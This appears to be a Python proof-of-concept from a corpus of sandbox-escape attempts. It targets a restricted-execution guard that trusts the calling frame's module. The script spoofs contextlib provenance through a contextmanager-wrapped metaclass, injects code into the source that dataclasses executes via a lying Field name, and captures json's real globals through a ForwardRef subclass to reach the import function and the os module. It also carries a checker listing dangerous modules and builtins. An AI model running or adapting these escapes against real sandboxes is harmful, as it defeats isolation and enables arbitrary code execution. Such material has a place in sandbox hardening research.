# technique: the class guard skips every check of bases, module and typing markers for a class "of an allowed module defined by that module's own code": the frame that called type.__new__ runs that module's code and the namespace's __module__ names it; a metaclass called from contextlib's own frame (the inner() of a contextmanager used as a decorator, @wraps'd around type(abc.ABC)) with __module__ = 'contextlib' in the namespace passes as contextlib's class: any base is accepted, so a dataclasses.Field subclass whose name is a property (renamed by nothing, checked by nothing) pastes 'a=EXPR,_return_type=None,**k):#' into the source dataclasses execs, and a typing.ForwardRef subclass (_root=True) with its own _evaluate receives json's real globals from typing.get_type_hints, called by functools.singledispatch.register
# source: frame-based provenance checks (who called type.__new__) spoofed by calling the metaclass from a trusted module's frame (contextlib.ContextDecorator) + 144/162 (Field.name and ForwardRef._evaluate subclasses)
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import abc, contextlib, dataclasses, functools, json, typing


@contextlib.contextmanager
def nothing():
    yield


def of_contextlib(name, bases, ns, **kw):
    # contextlib's inner() calls the metaclass: the class guard takes the
    # class for one contextlib defines in its own code
    ns = dict(ns)
    ns[dn('module')] = 'contextlib'
    return nothing()(type(abc.ABC))(name, bases, ns, **kw)


# 1. a dataclasses.Field subclass whose name answers what it likes
GOT = []
NAME = ['a']


def get_name(self):
    return NAME[0]


def set_name(self, value):
    pass


def generated(expr):
    LyingField = of_contextlib('LyingField', (dataclasses.Field,),
                               {'name': property(get_name, set_name)})
    field = LyingField(0, dataclasses.MISSING, False, False, None, False, None, False)
    NAME[0] = 'a'

    class K:
        a: int = field

    NAME[0] = 'a=GOT.append(' + expr + '),_return_type=None,**k):#'
    GOT.clear()
    try:
        dataclasses.dataclass(K)
    finally:
        NAME[0] = 'a'
    return GOT[-1]

attempt('Field subclass (contextlib-made) -> exec json.dumps.__globals__',
        lambda: generated('json.dumps.' + dn('globals')))
attempt("... __import__('os') from the real builtins",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + '][' +
                          repr(dn('import')) + "]('os')"))

# 2. a typing.ForwardRef subclass whose _evaluate receives the globals
SEEN = []


def evaluate(self, globalns, localns, *rest):
    SEEN.append(globalns)
    return int


def noop(self, value):
    pass


def globals_of(fn):
    ForwardRef = type(typing.get_args(typing.List['int'])[0])
    Ref = of_contextlib('Ref', (ForwardRef,), {'_eval' + 'uate': evaluate}, **{'_root': True})
    Fake = of_contextlib('Fake', (), {dn('annotations'): property(lambda self: {'x': Ref('int')},
                                                                 noop)})
    fake = Fake()
    functools.update_wrapper(fake, fn)  # __wrapped__ = fn; the annotations stay the property's

    @functools.singledispatch
    def f(x):
        return x

    SEEN.clear()
    f.register(fake)  # typing.get_type_hints(fake, globalns=fn.__globals__)
    return SEEN[-1]

attempt('ForwardRef subclass (contextlib-made) _evaluate <- json.dumps globals',
        lambda: globals_of(json.dumps))
